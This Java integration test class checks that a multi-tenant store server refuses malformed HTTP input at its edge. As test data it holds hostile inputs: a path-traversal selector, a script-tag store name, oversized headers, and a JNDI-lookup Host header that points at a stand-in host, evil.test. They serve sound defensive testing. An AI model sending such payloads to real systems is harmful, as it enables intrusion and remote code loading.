package com.mastertrade.it;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.path.json.JsonPath;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The HTTP edge (docs/runbook.md, "The HTTP edge"): malformed store selectors, what the container's HTTP layer
 * used to refuse with an empty answer, the server's banners and its internals (metrics, WADL). Raw sockets,
 * since HTTP clients refuse or repair most of these requests.
 */
class EdgeHardeningIT {

    // --- tenant selectors ------------------------------------------------------------------------------------

    @Test
    void aDotSegmentCannotClimbFromOneStoreIntoAnother() throws IOException {
        assertJsonError(RawHttp.get("/t/demo/%2e%2e/t/other-store/api/products"), 400, "BAD_PATH");
    }

    @Test
    void aStoreHeaderOver8KibIs431AndIsNotRepeated() throws IOException {
        RawHttp.Answer answer = RawHttp.get("/api/products", "X-Tenant: " + "a".repeat(70_000));
        assertJsonError(answer, 431, "HEADER_TOO_LARGE");
        assertThat(answer.body()).doesNotContain("aaaaaaaa");
    }

    @Test
    void anUnknownStoreNameIsRepeatedOnlyWhenItLooksLikeOne() throws IOException {
        RawHttp.Answer odd = RawHttp.get("/api/products", "X-Tenant: " + "a".repeat(7_000));
        assertJsonError(odd, 404, "TENANT_NOT_FOUND");
        assertThat(odd.body()).doesNotContain("aaaaaaaa").contains("No such store");

        RawHttp.Answer markup = RawHttp.get("/t/%3Cscript%3E/api/products");
        assertThat(markup.body()).doesNotContain("script");

        RawHttp.Answer plain = RawHttp.get("/api/products", "X-Tenant: no-such-store");
        assertJsonError(plain, 404, "TENANT_NOT_FOUND");
        assertThat(plain.body()).contains("No store 'no-such-store'");

        RawHttp.Answer mismatch = RawHttp.get("/t/demo/api/products", "X-Tenant: " + "b".repeat(2_000));
        assertJsonError(mismatch, 400, "TENANT_MISMATCH");
        assertThat(mismatch.body()).doesNotContain("bbbbbbbb");
    }

    @Test
    void aHostThatIsNoHostNameIs400() throws IOException {
        for (String host : List.of("${jndi}.localhost", "a b.localhost", "demo.localhost:abc", "demo..localhost")) {
            assertJsonError(RawHttp.get("/t/demo/api/products", "Host: " + host), 400, "BAD_HOST");
            assertJsonError(RawHttp.get("/api/ping", "Host: " + host), 400, "BAD_HOST");
        }
        assertJsonError(RawHttp.get("/api/ping", "Host: localhost", "Host: demo.localhost"), 400, "BAD_HOST");
        assertJsonError(RawHttp.get("/operator/api/tenants", "Host: ${jndi}.localhost"), 400, "BAD_HOST");
    }

    @Test
    void aWellFormedUnknownStoreHostIs404EvenOnPlatformPaths() throws IOException {
        for (String path : List.of("/api/products", "/health/ready", "/")) {
            RawHttp.Answer answer = RawHttp.get(path, "Host: no-such-store.localhost");
            assertJsonError(answer, 404, "TENANT_NOT_FOUND");
            assertThat(answer.body()).contains("No store 'no-such-store'");
        }
        assertThat(RawHttp.get("/health/ready", "Host: localhost").status()).isEqualTo(200);
        assertThat(RawHttp.get("/health/ready", "Host: www.localhost").status()).isEqualTo(200);
        assertThat(RawHttp.get("/api/products", "Host: Demo.LocalHost:80").status())
                .isEqualTo(200);
    }

    /**
     * Known limit (docs/runbook.md): Payara's connector parses the port of such a Host before any filter runs,
     * logs its failure and ends the exchange with an empty answer. It reaches no store, and says nothing.
     */
    @Test
    void aHostWithAnUnparsablePortReachesNothing() throws IOException {
        RawHttp.Answer answer = RawHttp.get("/t/demo/api/products", "Host: ${jndi:ldap://evil.test/a}.localhost");
        assertThat(answer.body()).doesNotContain("\"items\"").doesNotContain("jndi");
        assertNoBanner(answer);
    }

    // --- what the container used to answer without a body ----------------------------------------------------

    @Test
    void getAndDeleteWithABodyAre400() throws IOException {
        assertJsonError(RawHttp.request("GET", "/api/ping", "hello"), 400, "BODY_NOT_ALLOWED");
        assertJsonError(
                RawHttp.request("DELETE", "/t/demo/api/licenses/1/activations/pc-1", "{}"), 400, "BODY_NOT_ALLOWED");
        assertJsonError(RawHttp.request("GET", "/operator/api/tenants", "{}"), 400, "BODY_NOT_ALLOWED");
        assertThat(RawHttp.request("GET", "/api/ping", "", "Content-Length: 0").status())
                .isEqualTo(200);
    }

    @Test
    void aHeaderOver8KibIs431() throws IOException {
        assertJsonError(RawHttp.get("/api/ping", "X-Padding: " + "p".repeat(9_000)), 431, "HEADER_TOO_LARGE");
        assertJsonError(
                RawHttp.get("/operator/api/tenants", "Cookie: c=" + "p".repeat(9_000)), 431, "HEADER_TOO_LARGE");
        assertThat(RawHttp.get("/api/ping", "X-Padding: " + "p".repeat(7_000)).status())
                .isEqualTo(200);
    }

    @Test
    void traceIsRefusedAndNeverEchoed() throws IOException {
        for (String path : List.of(
                "/",
                "/api/ping",
                "/t/demo/",
                "/webjars/swagger-ui/5.20.1/swagger-ui-bundle.js",
                "/operator/api/tenants")) {
            RawHttp.Answer answer = RawHttp.request("TRACE", path, null, "Cookie: session=secret-cookie-value");
            assertJsonError(answer, 405, "METHOD_NOT_ALLOWED");
            assertThat(answer.header("Allow")).as(path).contains("GET");
            assertThat(answer.body()).as(path).doesNotContain("secret-cookie-value");
        }
    }

    /**
     * Known limit (docs/runbook.md): header bytes that RFC 9110 forbids (non-ASCII, a bare CR) are refused by the
     * listener's parser itself, with an empty 400: its CVE-2024-45687 check, which must stay on (relaxing it to
     * shape this answer would let such bytes reach the application and its framing decisions).
     */
    @Test
    void headerBytesOutsideRfc9110NeverReachTheApplication() throws IOException {
        for (String field :
                List.of("X-Tenant: d\u00c3\u00a9mo", "X-Tenant: de\rmo", "Host: d\u00c3\u00a9mo.localhost")) {
            RawHttp.Answer answer = RawHttp.get("/api/products", field);
            assertThat(answer.status()).as(field).isEqualTo(400);
            assertThat(answer.body()).as(field).isEmpty();
        }
    }

    // --- banners and internals -------------------------------------------------------------------------------

    @Test
    void noAnswerNamesTheServer() throws IOException {
        for (RawHttp.Answer answer : List.of(
                RawHttp.get("/api/ping"),
                RawHttp.get("/t/demo/"),
                RawHttp.get("/no-such-page"),
                RawHttp.get("/operator/api/tenants"),
                RawHttp.request("TRACE", "/", null),
                RawHttp.request("GET", "/api/ping", "body"))) {
            assertNoBanner(answer);
        }
    }

    @Test
    void metricsAreServedOnlyOnTheManagementListener() {
        given().get("/metrics").then().statusCode(404).contentType("application/json");
        given().get("/metrics/base").then().statusCode(404);
        given().get("/t/demo/metrics").then().statusCode(404);
        given().baseUri(Platform.MANAGEMENT_URL)
                .accept("text/plain")
                .get("/metrics")
                .then()
                .statusCode(200)
                .header("Server", (String) null)
                .header("X-Powered-By", (String) null);
        assertThat(Platform.MANAGEMENT_URL).startsWith("http://127.0.0.1:");
    }

    @Test
    void theApiIsNotDescribedByWadl() throws IOException {
        given().get("/t/demo/api/application.wadl").then().statusCode(404).contentType("application/json");
        given().get("/operator/api/application.wadl").then().statusCode(404).contentType("application/json");
        for (String path : List.of("/t/demo/api/products", "/operator/api/tenants", "/api/ping")) {
            RawHttp.Answer options = RawHttp.request("OPTIONS", path, null, "Accept: */*");
            assertThat(options.status()).as(path).isIn(200, 204);
            assertThat(options.header("Allow")).as(path).contains("GET");
            assertThat(options.header("Content-Type")).as(path).doesNotContain("wadl");
            assertThat(options.body()).as(path).doesNotContain("wadl").doesNotContain("<resource");
        }
    }

    private static void assertJsonError(RawHttp.Answer answer, int status, String code) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(status);
        assertThat(answer.header("Content-Type")).startsWith("application/json");
        JsonPath error = JsonPath.from(answer.body());
        assertThat(error.getString("error.code")).isEqualTo(code);
        assertThat(error.getString("error.message")).isNotBlank();
        assertThat(answer.header("X-Request-Id")).isNotBlank().isEqualTo(error.getString("error.request_id"));
        assertNoBanner(answer);
    }

    private static void assertNoBanner(RawHttp.Answer answer) {
        assertThat(answer.header("Server")).isNull();
        assertThat(answer.header("X-Powered-By")).isNull();
    }
}
